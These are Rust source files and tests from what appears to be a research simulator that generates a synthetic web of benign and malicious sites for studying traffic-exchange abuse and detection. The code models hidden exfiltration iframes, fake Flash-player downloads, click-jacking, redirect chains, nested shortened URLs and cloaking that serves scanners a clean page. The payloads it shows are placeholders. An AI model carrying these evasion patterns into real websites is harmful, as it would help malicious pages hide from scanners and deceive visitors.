        assert_eq!(at(1), targets[1], "pure function of (url, time)");
    }

    #[test]
    fn shortener_fetch_records_hit_for_browser_only() {
        let web =
            SyntheticWeb::new(HashMap::new(), ShortenerRegistry::with_standard_services());
        let target = Url::http("landing.example.com", "/");
        let short = web.shorteners().service("goo.gl").unwrap().register("abc123", target.clone());

        let out = web.fetch(&short, &RequestContext::browser().with_country("Brazil"));
        assert_eq!(out.redirect_target(), Some(&target));
        let out = web.fetch(&short, &RequestContext::scanner("quttera"));
        assert_eq!(out.redirect_target(), Some(&target));

        let stats = web.shorteners().service("goo.gl").unwrap().stats("abc123").unwrap();
        assert_eq!(stats.hits, 1, "scanner peek must not count");
        assert_eq!(stats.top_country(), Some("Brazil"));
    }

    #[test]
    fn oracle_sees_ground_truth() {
        let url = Url::http("bad.example.com", "/");
        let web = single_page_web(Page::malicious(
            url.clone(),
            String::new(),
            MaliceKind::Blacklisted,
            ContentCategory::Business,
        ));
        assert!(web.oracle_page(&url).unwrap().truth.is_malicious());
        assert_eq!(web.oracle_pages().count(), 1);
    }
}
