//! Deterministic randomness helpers for the generators.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Creates a seeded RNG. All generation in the workspace flows from
/// explicit seeds so every experiment is exactly reproducible.
pub fn seeded(seed: u64) -> StdRng {
    StdRng::seed_from_u64(seed)
}

/// Picks an index according to `weights` (need not be normalized).
///
/// # Panics
///
/// Panics if `weights` is empty or sums to zero.
pub fn pick_weighted(rng: &mut StdRng, weights: &[f64]) -> usize {
    assert!(!weights.is_empty(), "weights must be non-empty");
    let total: f64 = weights.iter().sum();
    assert!(total > 0.0, "weights must sum to a positive value");
    let mut needle = rng.gen_range(0.0..total);
    for (i, w) in weights.iter().enumerate() {
        if needle < *w {
            return i;
        }
        needle -= w;
    }
    weights.len() - 1
}

/// Samples a heavy-tailed hit count in `[min, max]` using a bounded
/// Pareto-ish inverse-CDF. Shortened-URL hit counts in the paper span
/// 1.7k .. 4.45M, i.e. three orders of magnitude — a uniform draw in
/// log-space captures that spread.
pub fn heavy_tail(rng: &mut StdRng, min: u64, max: u64) -> u64 {
    assert!(min >= 1 && max > min, "need 1 <= min < max");
    let lo = (min as f64).ln();
    let hi = (max as f64).ln();
    let x = rng.gen_range(lo..hi);
    (x.exp() as u64).clamp(min, max)
}

/// Lower-case syllables used to mint plausible, clearly synthetic
/// domain names.
const SYLLABLES: [&str; 24] = [
    "zor", "mix", "tra", "vel", "net", "lux", "pix", "dro", "kal", "ben", "sto", "ria", "cli",
    "qua", "fen", "mar", "tek", "sol", "vix", "nom", "pra", "dul", "hit", "sur",
];

/// Generates a synthetic domain name (without TLD), 2–4 syllables.
pub fn domain_stem(rng: &mut StdRng) -> String {
    let n = rng.gen_range(2..=4);
    let mut s = String::new();
    for _ in 0..n {
        s.push_str(SYLLABLES[rng.gen_range(0..SYLLABLES.len())]);
    }
    s
}

/// Generates a short random path token (for shortener codes and page
/// paths).
pub fn path_token(rng: &mut StdRng, len: usize) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    (0..len).map(|_| ALPHABET[rng.gen_range(0..ALPHABET.len())] as char).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seeded_is_deterministic() {
        let a: Vec<u32> = {
            let mut r = seeded(7);
            (0..5).map(|_| r.gen()).collect()
        };
        let b: Vec<u32> = {
            let mut r = seeded(7);
            (0..5).map(|_| r.gen()).collect()
        };
        assert_eq!(a, b);
    }

    #[test]
    fn weighted_pick_respects_zero_weights() {
        let mut rng = seeded(1);
        for _ in 0..100 {
            let i = pick_weighted(&mut rng, &[0.0, 1.0, 0.0]);
            assert_eq!(i, 1);
        }
    }

    #[test]
    fn weighted_pick_roughly_proportional() {
        let mut rng = seeded(2);
        let mut counts = [0usize; 2];
        for _ in 0..10_000 {
            counts[pick_weighted(&mut rng, &[3.0, 1.0])] += 1;
        }
        let ratio = counts[0] as f64 / counts[1] as f64;
        assert!((2.4..3.6).contains(&ratio), "ratio {ratio}");
    }

    #[test]
    #[should_panic(expected = "non-empty")]
    fn weighted_pick_empty_panics() {
        pick_weighted(&mut seeded(0), &[]);
    }

    #[test]
    fn heavy_tail_in_range_and_spread() {
        let mut rng = seeded(3);
        let samples: Vec<u64> = (0..500).map(|_| heavy_tail(&mut rng, 1_000, 5_000_000)).collect();
        assert!(samples.iter().all(|&s| (1_000..=5_000_000).contains(&s)));
        let below_100k = samples.iter().filter(|&&s| s < 100_000).count();
        let above_1m = samples.iter().filter(|&&s| s > 1_000_000).count();
        // Log-uniform: both tails must be populated.
        assert!(below_100k > 50, "low tail {below_100k}");
        assert!(above_1m > 20, "high tail {above_1m}");
    }

    #[test]
    fn domain_stems_are_dns_safe() {
        let mut rng = seeded(4);
        for _ in 0..100 {
            let d = domain_stem(&mut rng);
            assert!(!d.is_empty());
            assert!(d.chars().all(|c| c.is_ascii_lowercase()));
        }
    }

    #[test]
    fn path_tokens_have_requested_length() {
        let mut rng = seeded(5);
        assert_eq!(path_token(&mut rng, 6).len(), 6);
        assert_eq!(path_token(&mut rng, 0).len(), 0);
    }
}
