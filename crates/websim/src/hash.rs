//! Stable hashing used for deterministic pseudo-random decisions.
//!
//! Several layers of the simulation need per-sample randomness that is
//! stable across runs and independent of any RNG state: does Bright
//! Cloud detect *this* URL, does *this* surf session drop, does an
//! exchange shut down mid-study. Drawing those from a seeded stream
//! would entangle unrelated subsystems (consuming one extra draw would
//! shift every later decision); FNV-1a over an explicit decision key
//! keeps each decision a pure function of its key.

/// FNV-1a 64-bit hash.
pub fn fnv1a(bytes: &[u8]) -> u64 {
    const OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
    const PRIME: u64 = 0x0000_0100_0000_01b3;
    let mut h = OFFSET;
    for &b in bytes {
        h ^= b as u64;
        h = h.wrapping_mul(PRIME);
    }
    h
}

/// Maps a decision key to a uniform fraction in `[0, 1)`.
pub fn fraction(key: &str) -> f64 {
    (fnv1a(key.as_bytes()) >> 11) as f64 / (1u64 << 53) as f64
}

/// Deterministic Bernoulli draw: true with probability `p` for this key.
pub fn chance(key: &str, p: f64) -> bool {
    fraction(key) < p
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stable_across_calls() {
        assert_eq!(fnv1a(b"abc"), fnv1a(b"abc"));
        assert_ne!(fnv1a(b"abc"), fnv1a(b"abd"));
    }

    #[test]
    fn fraction_in_unit_interval() {
        for i in 0..1_000 {
            let f = fraction(&format!("key-{i}"));
            assert!((0.0..1.0).contains(&f));
        }
    }

    #[test]
    fn chance_rate_roughly_matches_p() {
        let hits = (0..10_000).filter(|i| chance(&format!("sample-{i}"), 0.3)).count();
        let rate = hits as f64 / 10_000.0;
        assert!((rate - 0.3).abs() < 0.02, "rate {rate}");
    }

    #[test]
    fn chance_extremes() {
        assert!(!chance("x", 0.0));
        assert!(chance("x", 1.0));
    }
}
