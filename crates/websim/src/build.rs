//! Web population builder: the site factory downstream crates use to
//! assemble a synthetic web.

use std::collections::HashMap;

use rand::rngs::StdRng;
use rand::Rng;

use crate::content::ContentCategory;
use crate::domain::Tld;
use crate::page::{FalsePositiveKind, GroundTruth, JsAttack, MaliceKind, Page};
use crate::params;
use crate::payload;
use crate::rng::{self, pick_weighted};
use crate::server::{route_key, Resource, SyntheticWeb};
use crate::shortener::ShortenerRegistry;
use crate::url::Url;

/// Description of an installed site, returned by every factory method.
/// This is what exchange listings reference.
#[derive(Debug, Clone)]
pub struct SiteSpec {
    /// Entry URL of the site.
    pub url: Url,
    /// Ground truth of the entry page (for redirect chains, of the
    /// chain's *entry* resource).
    pub truth: GroundTruth,
    /// Content category.
    pub category: ContentCategory,
    /// Number of redirect hops a browser will traverse from the entry
    /// URL before reaching a page (0 for ordinary pages).
    pub redirect_hops: u32,
}

/// Options for benign-site generation.
#[derive(Debug, Clone)]
#[derive(Default)]
pub struct BenignOptions {
    /// Force a category; `None` samples uniformly.
    pub category: Option<ContentCategory>,
    /// Force a TLD; `None` samples the benign mix.
    pub tld: Option<Tld>,
}


/// Options for malicious-site generation.
#[derive(Debug, Clone)]
#[derive(Default)]
pub struct MaliciousOptions {
    /// Force a malice kind; `None` samples the Table III mix (including
    /// the miscellaneous bucket).
    pub kind: Option<MaliceKind>,
    /// Force a TLD; `None` samples the Figure 6 malicious mix.
    pub tld: Option<Tld>,
    /// Force a content category; `None` samples the Figure 7 mix.
    pub category: Option<ContentCategory>,
    /// Force cloaking on/off; `None` samples [`params::CLOAKED_FRACTION`].
    pub cloaked: Option<bool>,
}


/// Incremental builder for a [`SyntheticWeb`].
///
/// All sampling is driven by the seed passed to [`WebBuilder::new`];
/// identical call sequences produce byte-identical webs.
pub struct WebBuilder {
    rng: StdRng,
    routes: HashMap<String, Resource>,
    shorteners: ShortenerRegistry,
    site_counter: usize,
}

impl WebBuilder {
    /// Creates a builder seeded with `seed`.
    pub fn new(seed: u64) -> Self {
        WebBuilder {
            rng: rng::seeded(seed),
            routes: HashMap::new(),
            shorteners: ShortenerRegistry::with_standard_services(),
            site_counter: 0,
        }
    }

    /// Finishes construction.
    pub fn finish(self) -> SyntheticWeb {
        SyntheticWeb::new(self.routes, self.shorteners)
    }

    /// Direct RNG access for callers that co-sample with the builder.
    pub fn rng(&mut self) -> &mut StdRng {
        &mut self.rng
    }

    // ---- host allocation ----------------------------------------------

    fn fresh_host(&mut self, tld: &Tld) -> String {
        self.site_counter += 1;
        // The counter suffix guarantees uniqueness even under syllable
        // collisions; hosts remain plausible-looking.
        format!("{}{}.{}", rng::domain_stem(&mut self.rng), self.site_counter, tld.label())
    }

    fn sample_tld(&mut self, mix: &[(Tld, f64)]) -> Tld {
        let weights: Vec<f64> = mix.iter().map(|(_, w)| *w).collect();
        mix[pick_weighted(&mut self.rng, &weights)].0.clone()
    }

    fn sample_category(&mut self) -> ContentCategory {
        let mix = params::malicious_category_mix();
        let weights: Vec<f64> = mix.iter().map(|(_, w)| *w).collect();
        mix[pick_weighted(&mut self.rng, &weights)].0
    }

    fn install(&mut self, url: &Url, resource: Resource) {
        self.routes.insert(route_key(url), resource);
    }

    fn install_page(&mut self, page: Page) -> SiteSpec {
        let spec = SiteSpec {
            url: page.url.clone(),
            truth: page.truth,
            category: page.category,
            redirect_hops: 0,
        };
        self.install(&page.url.clone(), Resource::Page(page));
        spec
    }

    // ---- benign sites --------------------------------------------------

    /// Installs an ordinary benign member site.
    pub fn benign_site(&mut self, opts: BenignOptions) -> SiteSpec {
        let tld = opts.tld.unwrap_or_else(|| self.sample_tld(&params::benign_tld_mix()));
        let category = opts.category.unwrap_or_else(|| {
            ContentCategory::ALL[self.rng.gen_range(0..ContentCategory::ALL.len())]
        });
        let host = self.fresh_host(&tld);
        let url = Url::http(&host, "/");
        let html = payload::benign_page(&host, category);
        self.install_page(Page::benign(url, html, category))
    }

    /// Installs a benign site that *looks* malicious (§V-E false
    /// positives).
    pub fn false_positive_site(&mut self, kind: FalsePositiveKind) -> SiteSpec {
        let host = self.fresh_host(&Tld::Com);
        let url = Url::http(&host, "/");
        let html = match kind {
            FalsePositiveKind::GoogleOauthRelay => payload::google_oauth_relay_page(&host),
            FalsePositiveKind::GoogleAnalytics => payload::google_analytics_page(&host),
        };
        let page = Page {
            url: url.clone(),
            html,
            truth: GroundTruth::BenignSuspicious(kind),
            category: ContentCategory::Entertainment,
            cloaked_benign_html: None,
        };
        self.install_page(page)
    }

    /// Installs a stand-in for a genuinely popular site (Google,
    /// Facebook, YouTube analogues) at a fixed host.
    pub fn popular_site(&mut self, host: &str) -> SiteSpec {
        let url = Url::http(host, "/");
        let html = payload::popular_site_page(host);
        self.install_page(Page::benign(url, html, ContentCategory::Other))
    }

    /// Installs a traffic-exchange homepage at a fixed host.
    pub fn exchange_home(&mut self, host: &str) -> SiteSpec {
        let url = Url::http(host, "/");
        let html = payload::exchange_home_page(host);
        self.install_page(Page::benign(url, html, ContentCategory::Business))
    }

    // ---- malicious sites ------------------------------------------------

    /// Installs a malicious site per `opts`, sampling unset fields from
    /// the paper-calibrated mixes.
    pub fn malicious_site(&mut self, opts: MaliciousOptions) -> SiteSpec {
        let kind = match opts.kind {
            Some(k) => k,
            None => self.sample_malice_kind(),
        };
        let tld = opts.tld.unwrap_or_else(|| self.sample_tld(&params::malicious_tld_mix()));
        let category = opts.category.unwrap_or_else(|| self.sample_category());
        let cloaked = opts
            .cloaked
            .unwrap_or_else(|| self.rng.gen_bool(params::CLOAKED_FRACTION));

        match kind {
            MaliceKind::Blacklisted => self.blacklisted_site(tld, category, cloaked),
            MaliceKind::MaliciousJs(attack) => self.js_site(attack, tld, category, cloaked),
            MaliceKind::MaliciousFlash => self.flash_site(tld, category),
            MaliceKind::SuspiciousRedirect => {
                let hops = self.sample_redirect_hops();
                self.redirect_chain_site(hops, tld, category)
            }
            MaliceKind::MaliciousShortened => self.shortened_site(tld, category),
            MaliceKind::Misc => self.misc_site(tld, category, cloaked),
        }
    }

    /// Samples a malice kind from the Table III mix (misc included).
    pub fn sample_malice_kind(&mut self) -> MaliceKind {
        let mix = params::malware_category_mix();
        if self.rng.gen_bool(mix.misc_fraction) {
            return MaliceKind::Misc;
        }
        let weights = [
            mix.blacklisted,
            mix.malicious_js,
            mix.suspicious_redirect,
            mix.malicious_shortened,
            mix.malicious_flash,
        ];
        match pick_weighted(&mut self.rng, &weights) {
            0 => MaliceKind::Blacklisted,
            1 => MaliceKind::MaliciousJs(self.sample_js_attack()),
            2 => MaliceKind::SuspiciousRedirect,
            3 => MaliceKind::MaliciousShortened,
            _ => MaliceKind::MaliciousFlash,
        }
    }

    fn sample_js_attack(&mut self) -> JsAttack {
        // Hidden-iframe variants dominate §IV-A1; downloads and
        // fingerprinting are the named minority behaviours.
        let weights = [0.35, 0.15, 0.25, 0.15, 0.10];
        match pick_weighted(&mut self.rng, &weights) {
            0 => JsAttack::HiddenIframe,
            1 => JsAttack::InvisibleIframeExfil,
            2 => JsAttack::DynamicIframe,
            3 => JsAttack::DeceptiveDownload,
            _ => JsAttack::Fingerprinting,
        }
    }

    fn sample_redirect_hops(&mut self) -> u32 {
        let weights: Vec<f64> = params::REDIRECT_COUNT_HISTOGRAM.iter().map(|(_, w)| *w).collect();
        params::REDIRECT_COUNT_HISTOGRAM[pick_weighted(&mut self.rng, &weights)].0
    }

    /// Installs a page on a blacklisted-looking host. The host itself is
    /// the signal: `slum-detect`'s blacklists are populated from these.
    pub fn blacklisted_site(
        &mut self,
        tld: Tld,
        category: ContentCategory,
        cloaked: bool,
    ) -> SiteSpec {
        let host = self.fresh_host(&tld);
        let url = Url::http(&host, "/");
        let ad_host = format!("ads.{}", self.fresh_host(&Tld::Other("ru".into())));
        let html = payload::blacklisted_host_page(&host, &ad_host);
        let mut page = Page::malicious(url, html, MaliceKind::Blacklisted, category);
        if cloaked {
            page = page.with_cloak(payload::benign_page(&host, category));
        }
        self.install_page(page)
    }

    /// Installs a malicious-JavaScript site carrying `attack`.
    pub fn js_site(
        &mut self,
        attack: JsAttack,
        tld: Tld,
        category: ContentCategory,
        cloaked: bool,
    ) -> SiteSpec {
        let host = self.fresh_host(&tld);
        let url = Url::http(&host, "/");
        let obf_layers = if self.rng.gen_bool(params::OBFUSCATED_JS_FRACTION) {
            self.rng.gen_range(1..=params::MAX_OBFUSCATION_LAYERS)
        } else {
            0
        };
        let html = match attack {
            JsAttack::HiddenIframe => {
                let target = Url::http(&self.fresh_host(&Tld::Com), "/track");
                payload::pixel_iframe_page(&host, &target)
            }
            JsAttack::InvisibleIframeExfil => {
                let exfil = self.fresh_host(&Tld::Com);
                payload::invisible_exfil_iframe_page(&host, &exfil, "id_supp")
            }
            JsAttack::DynamicIframe => {
                let target = Url::http(&self.fresh_host(&Tld::Net), "/ai.aspx");
                payload::js_injected_iframe_page(&host, &target, obf_layers)
            }
            JsAttack::DeceptiveDownload => {
                let dl_host = self.fresh_host(&Tld::Net);
                // Install the executable the prompt downloads.
                let dl_url = Url::http(&dl_host, "/c");
                self.install(&dl_url, Resource::Executable { filename: "flashplayer.exe".into() });
                payload::deceptive_download_page(&host, &dl_host)
            }
            JsAttack::Fingerprinting => {
                let collector = self.fresh_host(&Tld::Com);
                payload::fingerprinting_page(&host, &collector)
            }
        };
        let mut page = Page::malicious(url, html, MaliceKind::MaliciousJs(attack), category);
        if cloaked {
            page = page.with_cloak(payload::benign_page(&host, category));
        }
        self.install_page(page)
    }

    /// Installs a Flash click-jacking site: page + SWF descriptor + glue
    /// script.
    pub fn flash_site(&mut self, tld: Tld, category: ContentCategory) -> SiteSpec {
        let host = self.fresh_host(&tld);
        let url = Url::http(&host, "/");
        let cdn = self.fresh_host(&Tld::Net);
        let swf_url = Url::http(&cdn, "/swf/AdFlash46.swf");
        let glue_url = Url::http(&cdn, "/542_mobile3.js");
        let popup = Url::http(&self.fresh_host(&Tld::Com), "/ad");

        self.install(
            &swf_url,
            Resource::Swf {
                descriptor:
                    "SWF1;name=AdFlash46;fullpage;transparent;allowdomain=*;onclick=AdFlash.onClick,window.NqPnfu"
                        .into(),
            },
        );
        let layers = self.rng.gen_range(1..=params::MAX_OBFUSCATION_LAYERS);
        self.install(
            &glue_url,
            Resource::Script { body: payload::flash_glue_script(&popup, layers) },
        );
        let html = payload::flash_clickjack_page(&host, &swf_url, &glue_url);
        self.install_page(Page::malicious(url, html, MaliceKind::MaliciousFlash, category))
    }

    /// Installs a suspicious redirect chain of `hops` 302s whose entry is
    /// listed on exchanges and whose terminus hosts a malicious page. The
    /// final hop is a meta refresh, matching Figure 4's chain shape.
    pub fn redirect_chain_site(
        &mut self,
        hops: u32,
        tld: Tld,
        category: ContentCategory,
    ) -> SiteSpec {
        let hops = hops.max(1);
        // Terminal malicious page.
        let final_host = self.fresh_host(&Tld::Com);
        let final_url = Url::http(&final_host, "/landing");
        let dl_host = self.fresh_host(&Tld::Net);
        let final_html = payload::deceptive_download_page(&final_host, &dl_host);
        self.install(
            &Url::http(&dl_host, "/c"),
            Resource::Executable { filename: "flashplayer.exe".into() },
        );
        self.install(
            &final_url,
            Resource::Page(Page::malicious(
                final_url.clone(),
                final_html,
                MaliceKind::SuspiciousRedirect,
                category,
            )),
        );

        // Chain backwards: entry → hop1 → ... → final. The last redirect
        // before the landing page is a meta refresh when the chain is
        // long enough (Figure 4 ends `bounce → meta refresh → landing`).
        let mut next = final_url.clone();
        for hop_idx in (0..hops).rev() {
            let bridge_host = if hop_idx == 0 {
                self.fresh_host(&tld)
            } else {
                format!("bridge{}.{}", hop_idx, self.fresh_host(&Tld::Net))
            };
            let token = rng::path_token(&mut self.rng, 8);
            let hop_url = Url::http(&bridge_host, &format!("/ct?cid={token}"));
            let use_meta = hop_idx + 1 == hops && hops >= 2;
            let resource = if use_meta {
                Resource::MetaRefresh { target: next.clone() }
            } else {
                Resource::Redirect { target: next.clone() }
            };
            self.install(&hop_url, resource);
            next = hop_url;
        }
        SiteSpec {
            url: next,
            truth: GroundTruth::Malicious(MaliceKind::SuspiciousRedirect),
            category,
            redirect_hops: hops,
        }
    }

    /// Installs a rotating server-side redirector (the `company.ooo`
    /// pattern, §V-C): a script URL that 302s somewhere different on
    /// every fetch, plus a listed page that includes it.
    pub fn rotating_redirector_site(
        &mut self,
        n_destinations: usize,
        category: ContentCategory,
    ) -> SiteSpec {
        let rotor_host = self.fresh_host(&Tld::Other("ooo".into()));
        let token = rng::path_token(&mut self.rng, 8).to_lowercase();
        let rotor_url = Url::http(&rotor_host, &format!("/{token}.php?id=8689556"));
        let mut targets = Vec::with_capacity(n_destinations.max(1));
        for _ in 0..n_destinations.max(1) {
            let dest_host = self.fresh_host(&Tld::Com);
            let dest_url = Url::http(&dest_host, "/offer");
            let html = payload::blacklisted_host_page(&dest_host, &format!("ads.{dest_host}"));
            self.install(
                &dest_url,
                Resource::Page(Page::malicious(
                    dest_url.clone(),
                    html,
                    MaliceKind::SuspiciousRedirect,
                    category,
                )),
            );
            targets.push(dest_url);
        }
        self.install(&rotor_url, Resource::RotatingRedirect { targets });

        let host = self.fresh_host(&Tld::Com);
        let url = Url::http(&host, "/");
        let html = payload::rotating_redirector_page(&host, &rotor_url);
        let page = Page::malicious(url, html, MaliceKind::SuspiciousRedirect, category);
        self.install_page(page)
    }

    /// Installs a malicious site hidden behind a (possibly nested)
    /// shortened URL. Returns a spec whose entry URL is the short link.
    pub fn shortened_site(&mut self, tld: Tld, category: ContentCategory) -> SiteSpec {
        // Underlying malicious page.
        let inner = self.blacklisted_site(tld, category, false);
        let services = crate::shortener::SERVICES;
        let svc_host = services[self.rng.gen_range(0..services.len())];
        let code = rng::path_token(&mut self.rng, 6);
        let short = self
            .shorteners
            .service(svc_host)
            .expect("standard service")
            .register(&code, inner.url.clone());

        // Organic pre-study traffic per Table IV.
        let hits = rng::heavy_tail(
            &mut self.rng,
            params::SHORTENER_HITS_MIN,
            params::SHORTENER_HITS_MAX,
        );
        let countries = params::VISITOR_COUNTRIES;
        let weights: Vec<f64> = countries.iter().map(|(_, w)| *w).collect();
        let country = countries[pick_weighted(&mut self.rng, &weights)].0;
        let referrer = if self.rng.gen_bool(0.8) {
            // Top referrers are usually traffic exchanges (Table IV).
            ["10khits.example", "otohits.example", "vtrafficrush.example", "hit4hit.example"]
                [self.rng.gen_range(0..4)]
        } else {
            ""
        };
        self.shorteners
            .service(svc_host)
            .expect("standard service")
            .seed_traffic(&code, hits, country, referrer);

        // Occasionally nest: a short URL pointing at another short URL
        // (§IV-A5 reports nested shorteners in the wild). The outer code
        // carries its own organic traffic — Table IV's hit counts never
        // drop below ~1.7k.
        let entry = if self.rng.gen_bool(0.2) {
            let outer_host = services[self.rng.gen_range(0..services.len())];
            let outer_code = rng::path_token(&mut self.rng, 6);
            let outer = self
                .shorteners
                .service(outer_host)
                .expect("standard service")
                .register(&outer_code, short.clone());
            let outer_hits = rng::heavy_tail(
                &mut self.rng,
                params::SHORTENER_HITS_MIN,
                params::SHORTENER_HITS_MAX / 10,
            );
            self.shorteners
                .service(outer_host)
                .expect("standard service")
                .seed_traffic(&outer_code, outer_hits, country, referrer);
            outer
        } else {
            short
        };
        SiteSpec {
            url: entry,
            truth: GroundTruth::Malicious(MaliceKind::MaliciousShortened),
            category,
            redirect_hops: 1,
        }
    }

    /// Installs a "miscellaneous" malicious site: detected as malicious
    /// by engines but carrying no category-defining structure (the
    /// paper's 66% bucket). Modelled as a page with a generically
    /// suspicious payload signature.
    pub fn misc_site(&mut self, tld: Tld, category: ContentCategory, cloaked: bool) -> SiteSpec {
        let host = self.fresh_host(&tld);
        let url = Url::http(&host, "/");
        // A marker comment the signature engines key on, without any of
        // the structural categories' features.
        let html = format!(
            "<!DOCTYPE html><html><head><title>{host}</title></head><body><h1>{host}</h1>\
<p>Limited time offer, act now.</p>\
<!-- slum:payload:generic-trojan-dropper --></body></html>"
        );
        let mut page = Page::malicious(url, html, MaliceKind::Misc, category);
        if cloaked {
            page = page.with_cloak(payload::benign_page(&host, category));
        }
        self.install_page(page)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::server::RequestContext;

    #[test]
    fn deterministic_given_seed() {
        let build = |seed| {
            let mut b = WebBuilder::new(seed);
            let specs: Vec<String> = (0..20)
                .map(|_| b.malicious_site(MaliciousOptions::default()).url.to_string())
                .collect();
            specs
        };
        assert_eq!(build(11), build(11));
        assert_ne!(build(11), build(12));
    }

    #[test]
    fn benign_site_served() {
        let mut b = WebBuilder::new(1);
        let site = b.benign_site(BenignOptions::default());
        let web = b.finish();
        assert!(web.fetch(&site.url, &RequestContext::browser()).is_html());
        assert_eq!(site.truth, GroundTruth::Benign);
    }

    #[test]
    fn forced_kind_respected() {
        let mut b = WebBuilder::new(2);
        let spec = b.malicious_site(MaliciousOptions {
            kind: Some(MaliceKind::MaliciousFlash),
            ..Default::default()
        });
        assert_eq!(spec.truth, GroundTruth::Malicious(MaliceKind::MaliciousFlash));
    }

    /// Follows redirects (302 and meta refresh) until a non-redirect
    /// page; returns `(final_url, hops)`.
    fn follow(web: &crate::server::SyntheticWeb, start: &Url) -> (Url, u32) {
        let ctx = RequestContext::browser();
        let mut url = start.clone();
        let mut hops = 0;
        loop {
            assert!(hops <= 10, "chain must terminate");
            match web.fetch(&url, &ctx) {
                crate::server::FetchOutcome::Redirect { target, .. } => {
                    url = target;
                    hops += 1;
                }
                crate::server::FetchOutcome::Html { body } => {
                    if body.contains("http-equiv=\"refresh\"") {
                        let start_idx = body.find("url=").expect("refresh target");
                        let rest = &body[start_idx + 4..];
                        let end = rest.find('"').unwrap_or(rest.len());
                        url = Url::parse(&rest[..end]).expect("parse refresh target");
                        hops += 1;
                    } else {
                        return (url, hops);
                    }
                }
                other => panic!("unexpected outcome {other:?}"),
            }
        }
    }

    #[test]
    fn redirect_chain_walks_to_malicious_landing() {
        let mut b = WebBuilder::new(3);
        let spec = b.redirect_chain_site(3, Tld::Com, ContentCategory::Business);
        let web = b.finish();
        let (final_url, hops) = follow(&web, &spec.url);
        assert_eq!(hops, spec.redirect_hops);
        assert!(web.oracle_page(&final_url).unwrap().truth.is_malicious());
    }

    #[test]
    fn single_hop_chain_uses_plain_redirect() {
        let mut b = WebBuilder::new(31);
        let spec = b.redirect_chain_site(1, Tld::Com, ContentCategory::Business);
        let web = b.finish();
        let (final_url, hops) = follow(&web, &spec.url);
        assert_eq!(hops, 1);
        assert!(web.oracle_page(&final_url).is_some());
    }

    #[test]
    fn shortened_site_resolves_and_has_stats() {
        let mut b = WebBuilder::new(4);
        let spec = b.shortened_site(Tld::Com, ContentCategory::Business);
        let web = b.finish();
        let svc_host = spec.url.host().to_string();
        assert!(web.shorteners().is_shortener_host(&svc_host));
        let out = web.fetch(&spec.url, &RequestContext::browser());
        assert!(out.redirect_target().is_some());
        let code = spec.url.path().trim_start_matches('/').to_string();
        let stats = web.shorteners().service(&svc_host).unwrap().stats(&code).unwrap();
        assert!(stats.hits >= params::SHORTENER_HITS_MIN);
    }

    #[test]
    fn rotating_redirector_rotates() {
        let mut b = WebBuilder::new(5);
        let spec = b.rotating_redirector_site(3, ContentCategory::Advertisement);
        let web = b.finish();
        // Find the rotor script URL inside the page.
        let page = web.oracle_page(&spec.url).unwrap();
        let src_start = page.html.find("src=\"http://").unwrap() + 5;
        let rest = &page.html[src_start..];
        let src_end = rest.find('"').unwrap();
        let rotor = Url::parse(&rest[..src_end]).unwrap();
        let at = |t: u64| {
            let ctx = RequestContext::browser().with_time(t);
            web.fetch(&rotor, &ctx).redirect_target().cloned().unwrap()
        };
        assert_ne!(at(0), at(1), "rotator must rotate as the clock advances");
    }

    #[test]
    fn flash_site_installs_swf_and_glue() {
        let mut b = WebBuilder::new(6);
        let spec = b.flash_site(Tld::Com, ContentCategory::Entertainment);
        let web = b.finish();
        let page = web.oracle_page(&spec.url).unwrap();
        assert!(page.html.contains(".swf"));
        // Extract and fetch the swf.
        let data_start = page.html.find("data=\"").unwrap() + 6;
        let rest = &page.html[data_start..];
        let swf_url = Url::parse(&rest[..rest.find('"').unwrap()]).unwrap();
        match web.fetch(&swf_url, &RequestContext::browser()) {
            crate::server::FetchOutcome::Swf { descriptor } => {
                assert!(descriptor.starts_with("SWF1"));
            }
            other => panic!("expected swf, got {other:?}"),
        }
    }

    #[test]
    fn misc_site_has_no_structural_category_markers() {
        let mut b = WebBuilder::new(7);
        let spec = b.misc_site(Tld::Com, ContentCategory::Business, false);
        let web = b.finish();
        let page = web.oracle_page(&spec.url).unwrap();
        assert!(!page.html.contains("<iframe"));
        assert!(!page.html.contains(".swf"));
        assert!(page.html.contains("slum:payload:generic-trojan-dropper"));
    }

    #[test]
    fn cloaked_malicious_site_dual_serves() {
        let mut b = WebBuilder::new(8);
        let spec = b.malicious_site(MaliciousOptions {
            kind: Some(MaliceKind::Misc),
            cloaked: Some(true),
            ..Default::default()
        });
        let web = b.finish();
        let browser_body = match web.fetch(&spec.url, &RequestContext::browser()) {
            crate::server::FetchOutcome::Html { body } => body,
            other => panic!("{other:?}"),
        };
        let scanner_body = match web.fetch(&spec.url, &RequestContext::scanner("vt")) {
            crate::server::FetchOutcome::Html { body } => body,
            other => panic!("{other:?}"),
        };
        assert_ne!(browser_body, scanner_body);
        assert!(browser_body.contains("generic-trojan-dropper"));
        assert!(!scanner_body.contains("generic-trojan-dropper"));
    }

    #[test]
    fn hosts_are_unique_across_many_sites() {
        let mut b = WebBuilder::new(9);
        let mut hosts = std::collections::BTreeSet::new();
        for _ in 0..200 {
            let s = b.benign_site(BenignOptions::default());
            assert!(hosts.insert(s.url.host().to_string()), "duplicate host");
        }
    }
}
