//! Domain and TLD handling.

use serde::{Deserialize, Serialize};
use std::fmt;

/// Second-level public suffixes where the registered domain spans three
/// labels (`x.blogspot.com.br` → `blogspot.com.br`).
const SECOND_LEVEL_SUFFIXES: [&str; 4] = ["com.br", "co.uk", "com.au", "co.in"];

/// Computes the registered domain of a host: the last two labels, or the
/// last three when the host ends in a known second-level suffix.
///
/// ```
/// assert_eq!(slum_websim::domain::registered_domain("a.b.example.com"), "example.com");
/// assert_eq!(slum_websim::domain::registered_domain("shop.co.uk"), "shop.co.uk");
/// assert_eq!(slum_websim::domain::registered_domain("x.shop.co.uk"), "shop.co.uk");
/// ```
pub fn registered_domain(host: &str) -> String {
    let labels: Vec<&str> = host.split('.').filter(|l| !l.is_empty()).collect();
    if labels.len() <= 2 {
        return labels.join(".");
    }
    let last_two = labels[labels.len() - 2..].join(".");
    let take = if SECOND_LEVEL_SUFFIXES.contains(&last_two.as_str()) { 3 } else { 2 };
    labels[labels.len().saturating_sub(take)..].join(".")
}

